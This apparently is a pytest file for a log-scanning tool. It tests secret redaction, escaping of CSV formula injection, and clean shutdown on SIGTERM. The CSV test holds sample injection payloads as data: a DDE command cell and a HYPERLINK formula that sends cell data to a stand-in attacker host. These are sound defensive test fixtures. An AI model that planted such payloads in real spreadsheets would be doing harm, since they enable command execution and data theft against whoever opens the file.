"""scan's outputs are safe to share and its stop is clean (issue 16, items 2, 5 and 6): planted secrets reach no
table format and no cache, CSV cells cannot be spreadsheet formulas, and SIGTERM stops the workers and writes
nothing partial (exit 143)."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from test_redact import LOG, SECRETS

from logsleuth.scan import read_table, scan, to_frame, write_table

ROOT = Path(__file__).resolve().parent.parent


# the planted lines as one exception message, so that the job's first failure (the table's text) carries them all
TRACEBACK = ('[rank0]: Traceback (most recent call last):\n[rank0]:   File "/home/user/train.py", line 3, in <module>\n'
             "[rank0]:     main()\n[rank0]: RuntimeError: "
             + " | ".join(line.split("RuntimeError: ", 1)[1] for line in LOG.splitlines()) + "\n")


def _archive(tmp_path: Path) -> Path:
    arch = tmp_path / "arch"
    for name in ("a", "b"):
        (arch / name).mkdir(parents=True)
        (arch / name / "train.log").write_text(TRACEBACK)
    return arch


@pytest.mark.parametrize("suffix", [".parquet", ".csv", ".jsonl"])
def test_no_planted_secret_in_any_table_or_cache(tmp_path, suffix) -> None:
    arch = _archive(tmp_path)
    out, cache = tmp_path / f"t{suffix}", tmp_path / "cache.jsonl"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "CI": "true"}
    cmd = [sys.executable, "-m", "logsleuth", "scan", str(arch), "-o", str(out), "--cache", str(cache), "-j", "1",
           "--no-model"]
    res = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    df = read_table(out)
    assert df["first_failure_text"].notna().all()
    for blob in (out.read_bytes(), cache.read_bytes(), res.stdout.encode()):
        for name, secret in SECRETS.items():
            assert secret.encode() not in blob, name
    assert any("[REDACTED]" in t for t in df["first_failure_text"])
    # --no-redact is the switch (and does not reuse the redacted cache)
    res = subprocess.run([*cmd, "--no-redact"], env=env, capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    assert any(SECRETS["hf"] in t for t in read_table(out)["first_failure_text"])


def test_library_scan_redacts_by_default(tmp_path) -> None:
    df = scan([str(_archive(tmp_path))], jobs=1, model=False)
    text = "\n".join(df["first_failure_text"])
    assert not any(s in text for s in SECRETS.values())


def test_csv_cells_never_start_a_formula(tmp_path) -> None:
    row = {"job": "=cmd|' /C calc'!A0", "paths": ["a.log"], "files": 1, "bytes": 1, "lines": 1,
           "verdict": "failure", "root_cause": "worker_exception", "confidence": 0.9, "method": "rule",
           "rule_id": "python-worker-exception", "first_failure_time": None, "first_failure_rank": 0,
           "first_failure_host": "@host", "first_failure_path": "+x.log", "first_failure_line": 3,
           "first_failure_text": '=HYPERLINK("https://evil.example/?"&A1,"click")', "symptoms": [],
           "versions": None, "error": "-2+3", "seconds": 0.1}
    df = to_frame([row])
    out = tmp_path / "t.csv"
    write_table(df, out)
    raw = out.read_text()
    for cell in ("'=cmd", "'@host", "'+x.log", "'=HYPERLINK", "'-2+3"):
        assert cell in raw
    back = read_table(out)  # the apostrophe is taken off again
    assert back.loc[0, "first_failure_text"] == row["first_failure_text"] and back.loc[0, "job"] == row["job"]
    assert back.loc[0, "error"] == "-2+3" and back.loc[0, "first_failure_host"] == "@host"


def _noisy_archive(root: Path, jobs: int, lines: int) -> None:
    # WARNING lines pass the reader's gate, so every line is parsed: a few seconds of work per job
    for j in range(jobs):
        d = root / f"job{j:03d}"
        d.mkdir(parents=True)
        (d / "train.log").write_text("".join(
            f"[2024-05-01 10:{(i // 60) % 60:02d}:{i % 60:02d},000] [WARNING] step {i} data loader slow, queue {i % 7}\n"
            for i in range(lines)))


def test_sigterm_stops_workers_and_writes_nothing(tmp_path) -> None:
    psutil = pytest.importorskip("psutil")
    arch = tmp_path / "arch"
    _noisy_archive(arch, jobs=24, lines=30000)
    out = tmp_path / "t.parquet"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "CI": "true"}
    proc = subprocess.Popen([sys.executable, "-m", "logsleuth", "scan", str(arch), "-o", str(out), "-j", "2",
                             "--no-model"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        workers: list = []
        while time.monotonic() < deadline and len(workers) < 2 and proc.poll() is None:
            workers = psutil.Process(proc.pid).children(recursive=True)
            time.sleep(0.1)
        assert proc.poll() is None and workers, "scan finished before it could be stopped"
        time.sleep(0.5)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 143, err
    assert err.strip() == "logsleuth: error: terminated" and "Traceback" not in err
    assert not out.exists() and not list(tmp_path.glob(".t.parquet.tmp*"))
    _, alive = psutil.wait_procs(workers, timeout=10)
    assert not alive, f"workers left running: {[p.pid for p in alive]}"
